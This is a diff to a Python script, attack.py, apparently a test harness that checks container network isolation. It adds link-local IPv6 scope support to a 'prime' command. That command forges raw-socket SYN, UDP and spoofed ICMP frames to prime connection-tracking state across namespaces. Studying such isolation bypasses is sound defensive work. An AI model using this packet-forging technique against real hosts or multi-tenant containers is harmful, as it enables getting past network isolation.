@@ -7,7 +7,7 @@
 # it has the small receivers that count what arrives in the target namespace.
 #
 # Attacker side (run inside a container namespace):
-#   attack.py prime --iface IF --dmac MAC --src ADDR --port N [--timeout S] SPEC...
+#   attack.py prime --iface IF --dmac MAC --src ADDR[%IF] --port N [--timeout S] SPEC...
 #       Conntrack reply priming. SPEC = tcp:ADDR:PORT, udp:ADDR:PORT or
 #       icmp:ADDR:0 (the target T). For target number i the local port is N+i. For each target:
 #       send one AF_PACKET frame to MAC carrying a SYN (or a UDP datagram) with
@@ -200,13 +200,22 @@ def prime(args):
     o, specs = opts(args, ("iface", "dmac", "src", "port", "timeout"))
     iface, src, base = o["iface"], o["src"], int(o["port"])
     timeout = float(o.get("timeout", "1.0"))
+    scope = 0
+    if "%" in src:
+        # a link-local source (fe80::x%IF): bind and connect in IF's scope
+        src, ifn = src.split("%", 1)
+        scope = socket.if_nametoindex(ifn)
+
+    def sa(addr, port):
+        return (addr, port, 0, scope) if scope and is6(addr) else (addr, port)
+
     fr = Frames(iface, o["dmac"])
     keep, jobs = [], []
     for i, spec in enumerate(specs):
         proto, rest = spec.split(":", 1)
         taddr, tport = split_hostport(rest)
         lport = base + i
-        j = {"spec": spec, "proto": proto, "t": (taddr, tport), "lport": lport, "res": "timeout"}
+        j = {"spec": spec, "proto": proto, "t": sa(taddr, tport), "lport": lport, "res": "timeout"}
         if proto == "icmp":
             # a forged echo request "from" T: the container's own kernel
             # sends the echo reply (id = lport), no socket needed
@@ -221,13 +230,13 @@ def prime(args):
             lst.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
             lst.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
             keep.append(drop_all_filter(lst))
-            lst.bind((src, lport))
+            lst.bind(sa(src, lport))
             lst.listen(8)
             keep.append(lst)
             pkt = ip_packet(taddr, src, 6, l4_tcp(taddr, src, tport, lport, random.randint(1, 2**31)))
         else:
             u = socket.socket(fam(src), socket.SOCK_DGRAM)
-            u.bind((src, lport))
+            u.bind(sa(src, lport))
             u.setblocking(False)
             j["sock"] = u
             pkt = ip_packet(taddr, src, 17, l4_udp(taddr, src, tport, lport, b"prime"))
@@ -241,7 +250,7 @@ def prime(args):
             s = socket.socket(fam(src), socket.SOCK_STREAM)
             s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
             s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
-            s.bind((src, j["lport"]))
+            s.bind(sa(src, j["lport"]))
             s.setblocking(False)
             try:
                 s.connect(j["t"])
@@ -423,7 +432,7 @@ def count(args):
                 hlim = data[8]
                 l4 = data[ihl:]
             else:
-                src, dst, hlim, l4 = peer[0], "?", -1, data
+                src, dst, hlim, l4 = peer[0].split("%")[0], "?", -1, data
                 for lvl, typ, c in anc:
                     if lvl == socket.IPPROTO_IPV6 and typ == IPV6_PKTINFO:
                         dst = socket.inet_ntop(socket.AF_INET6, c[:16])
